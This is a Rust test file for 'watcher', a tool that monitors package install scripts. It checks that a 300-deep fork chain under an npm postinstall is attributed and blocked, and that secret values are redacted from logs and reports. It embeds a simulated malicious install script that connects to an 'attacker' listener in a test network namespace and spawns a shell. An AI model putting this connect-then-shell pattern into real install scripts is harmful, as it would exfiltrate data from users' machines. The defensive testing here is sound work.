//! Secrets and attribution, for real (root): attribution at any depth below an install
//! script, protected values never written by watcher in any form, and values found anywhere
//! in the first 64 KiB of a TCP stream and in every UDP datagram. The attacker is a listener
//! inside a network namespace the test creates (recording every connection and its bytes).
use std::{
    net::{IpAddr, SocketAddr},
    path::Path,
    process::{Command, Stdio},
};

use serde_json::Value;
use watcher_tests::{Listener, Netns, lab::in_netns, read_jsonl, root_or_skip, watcher_bin};

/// Subnets of Netns (distinct per test in this file, away from the other files' ones).
const SUBNET_DEPTH: u16 = 1101;
#[allow(dead_code)]
const SUBNET_STREAM: u16 = 1102;
const SUBNET_REDACT: u16 = 1103;

/// A listener on the namespace side of `ns` (the attacker host).
fn attacker(ns: &Netns) -> Listener {
    let addr = SocketAddr::new(IpAddr::V4(ns.ns_v4()), 0);
    in_netns(ns.name(), move || Listener::start(addr)).expect("attacker listener in the namespace")
}

struct Out {
    code: Option<i32>,
    stdout: String,
    stderr: String,
    events: Vec<Value>,
}

impl Out {
    fn alerts(&self, rule: &str) -> Vec<&Value> {
        self.events.iter().filter(|e| e["kind"] == "alert" && e["rule"] == rule).collect()
    }
}

/// `watcher run --policy P --log L [extra] -- sh -c SCRIPT`, as npm runs a postinstall
/// (`npm_lifecycle_event`), with `env` added.
fn run(dir: &Path, policy: &str, script: &str, npm: bool, env: &[(&str, &str)], extra: &[&str]) -> Out {
    let p = dir.join("p.yaml");
    std::fs::write(&p, policy).unwrap();
    let log = dir.join("e.jsonl");
    let _ = std::fs::remove_file(&log);
    let mut cmd = Command::new(watcher_bin());
    cmd.args(["run", "--policy"]).arg(&p).arg("--log").arg(&log).args(extra).args(["--", "sh", "-c", script]);
    if npm {
        cmd.env("npm_lifecycle_event", "postinstall")
            .env("npm_package_name", "evil-pkg")
            .env("npm_package_version", "99.99.9");
    }
    for (k, v) in env {
        cmd.env(k, v);
    }
    let out = cmd.stdin(Stdio::null()).output().unwrap();
    Out {
        code: out.status.code(),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        events: if log.exists() { read_jsonl(&log) } else { vec![] },
    }
}

fn policy(mode: &str, allow: &str) -> String {
    format!(
        "version: 1\npipeline: secrets-test\nmode: {mode}\negress:\n  loopback: false\n{allow}dns:\n  resolvers: [system]\nsecrets:\n  env: [\"AWS_*\", \"*_TOKEN\"]\n"
    )
}

// ------------------------------------------------------------------------ attribution

/// Python: fork a chain DEPTH deep; the last process connects to the attacker, sends a line,
/// then execs a shell.
const CHAIN: &str = r#"
import os, socket, sys
depth, host, port = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
for level in range(depth):
    pid = os.fork()
    if pid:
        _, st = os.waitpid(pid, 0)
        os._exit(os.waitstatus_to_exitcode(st) if level else 0)
try:
    s = socket.create_connection((host, port), timeout=3)
    s.sendall(b"deep hello\n")
    s.close()
    print("LEAF-CONNECTED", flush=True)
except OSError as e:
    print("LEAF-CONNECT-FAILED", e, flush=True)
os.execv("/bin/sh", ["sh", "-c", "echo LEAF-SHELL-RAN"])
"#;

#[test]
fn a_process_300_forks_below_an_install_script_is_attributed_and_enforced() {
    if !root_or_skip() {
        return;
    }
    let ns = Netns::new(SUBNET_DEPTH).unwrap();
    let bad = attacker(&ns);
    let dir = tempfile::tempdir().unwrap();
    let chain = dir.path().join("chain.py");
    std::fs::write(&chain, CHAIN).unwrap();
    // The real interpreter, not a pyenv shim (a bash script: a shell of its own).
    let script = format!("/usr/bin/python3 {} 300 {} {}", chain.display(), bad.addr().ip(), bad.addr().port());

    // Audit: flagged, attributed to the package, let through.
    let a = run(dir.path(), &policy("audit", ""), &script, true, &[], &[]);
    assert_eq!(a.code, Some(0), "{}", a.stderr);
    assert!(a.stdout.contains("LEAF-CONNECTED") && a.stdout.contains("LEAF-SHELL-RAN"), "{}", a.stdout);
    let connects: Vec<&Value> = a.events.iter().filter(|e| e["kind"] == "connect").collect();
    assert_eq!(bad.connections(), 1, "{connects:#?}\n{}", a.stdout);
    let eg = a.alerts("egress-denied");
    assert_eq!(eg.len(), 1, "{eg:#?}");
    assert_eq!(eg[0]["package"], "npm:evil-pkg@99.99.9 (postinstall)");
    assert_eq!(eg[0]["action"], "flag");
    let sh = a.alerts("shell-from-install-script");
    assert_eq!(sh.len(), 1, "{sh:#?}");
    assert_eq!(sh[0]["package"], "npm:evil-pkg@99.99.9 (postinstall)");
    // The chain really was that deep in the log.
    assert!(a.events.iter().filter(|e| e["kind"] == "fork").count() >= 300);

    // Enforce: the connect is denied in the kernel, the shell killed, both reported, exit 77.
    let e = run(dir.path(), &policy("enforce", ""), &script, true, &[], &[]);
    assert_eq!(e.code, Some(77), "{}", e.stderr);
    assert!(e.stdout.contains("LEAF-CONNECT-FAILED"), "{}", e.stdout);
    assert!(!e.stdout.contains("LEAF-SHELL-RAN"), "the shell ran: {}", e.stdout);
    assert_eq!(bad.connections(), 1, "the attacker got a connection in enforce mode");
    let eg = e.alerts("egress-denied");
    assert_eq!((eg.len(), &eg[0]["action"]), (1, &Value::from("deny")));
    assert_eq!(eg[0]["package"], "npm:evil-pkg@99.99.9 (postinstall)");
    let sh = e.alerts("shell-from-install-script");
    assert_eq!((sh.len(), &sh[0]["action"]), (1, &Value::from("kill")), "{}", e.stderr);
    assert_eq!(sh[0]["package"], "npm:evil-pkg@99.99.9 (postinstall)");
    // Every exec the kernel killed has its alert.
    let killed = e.events.iter().filter(|x| x["kind"] == "exec" && x["killed"] == true).count();
    let kills = e.events.iter().filter(|x| x["kind"] == "alert" && x["action"] == "kill").count();
    assert!(killed >= 1 && kills >= killed, "{killed} killed execs, {kills} kill alerts");
}

// ------------------------------------------------------------------------ redaction

/// Every form a reader could decode the value back from (16-character stretches of its raw,
/// hex and base64 forms) is absent from `text`.
fn assert_no_form(what: &str, text: &str, value: &str) {
    use data_encoding::{BASE64, HEXLOWER, HEXUPPER};
    let forms = [
        value.to_string(),
        HEXLOWER.encode(value.as_bytes()),
        HEXUPPER.encode(value.as_bytes()),
        BASE64.encode(value.as_bytes()),
        BASE64.encode(format!("{value}\n").as_bytes()),
    ];
    for f in &forms {
        for w in f.as_bytes().windows(16) {
            assert!(!text.as_bytes().windows(16).any(|x| x == w), "{what} holds a form of the value: {f}\n{text}");
        }
    }
}

#[test]
fn a_protected_value_on_the_command_line_is_in_no_file_watcher_writes() {
    if !root_or_skip() {
        return;
    }
    use data_encoding::{BASE64, HEXLOWER};
    let _ns = Netns::new(SUBNET_REDACT).unwrap();
    let value = "Zq8LmN4pR7sT2vW9xY3bC6dFhJ";
    let hex = HEXLOWER.encode(value.as_bytes());
    let b64 = BASE64.encode(value.as_bytes());
    let dir = tempfile::tempdir().unwrap();
    // A program named after the hex form, denied by an exec rule: its alert message names it.
    let tools = dir.path().join("tools");
    std::fs::create_dir(&tools).unwrap();
    let tool = tools.join(format!("{hex}-tool"));
    std::fs::write(&tool, "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::set_permissions(&tool, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let pol = format!(
        "version: 1\npipeline: redact-test\nmode: audit\nexec:\n  deny: [\"{}/**\"]\nsecrets:\n  env: [\"AWS_*\"]\n",
        tools.display()
    );
    let script = format!("echo {value} {hex} {b64} >/dev/null; {} {b64}; true", tool.display());
    let summary = dir.path().join("step-summary.md");
    let env = [("AWS_SECRET_ACCESS_KEY", value), ("GITHUB_STEP_SUMMARY", summary.to_str().unwrap())];
    for ext in ["json", "sarif", "md", "txt"] {
        let report = dir.path().join(format!("report.{ext}"));
        let out = run(dir.path(), &pol, &script, false, &env, &["--report", report.to_str().unwrap()]);
        assert_eq!(out.code, Some(0), "{}", out.stderr);
        let log = std::fs::read_to_string(dir.path().join("e.jsonl")).unwrap();
        // The run really carried the value, and the log says it was taken out.
        let start = out.events.iter().find(|e| e["kind"] == "start").unwrap();
        assert!(start["command"][2].as_str().unwrap().contains("[hex of Zq…(26 chars)]"), "{start}");
        assert!(out.events.iter().any(|e| e["kind"] == "exec" && e["argv_redacted"] == true));
        assert!(!out.alerts("exec-denied").is_empty(), "{}", out.stderr);
        assert_no_form("the log", &log, value);
        assert_no_form("stderr", &out.stderr, value);
        assert_no_form(&format!("the .{ext} report"), &std::fs::read_to_string(&report).unwrap(), value);
    }
    assert_no_form("the step summary", &std::fs::read_to_string(&summary).unwrap(), value);

    // A command that cannot run, named by the value: stderr names it redacted.
    let p = dir.path().join("p.yaml");
    let out = Command::new(watcher_bin())
        .args(["run", "--policy"])
        .arg(&p)
        .arg("--log")
        .arg(dir.path().join("e2.jsonl"))
        .args(["--", &format!("{value}-x")])
        .env("AWS_SECRET_ACCESS_KEY", value)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(127), "{stderr}");
    assert!(stderr.contains("cannot run Zq…(26 chars)-x"), "{stderr}");
    assert_no_form("stderr", &stderr, value);
    assert_no_form("the log", &std::fs::read_to_string(dir.path().join("e2.jsonl")).unwrap(), value);
}
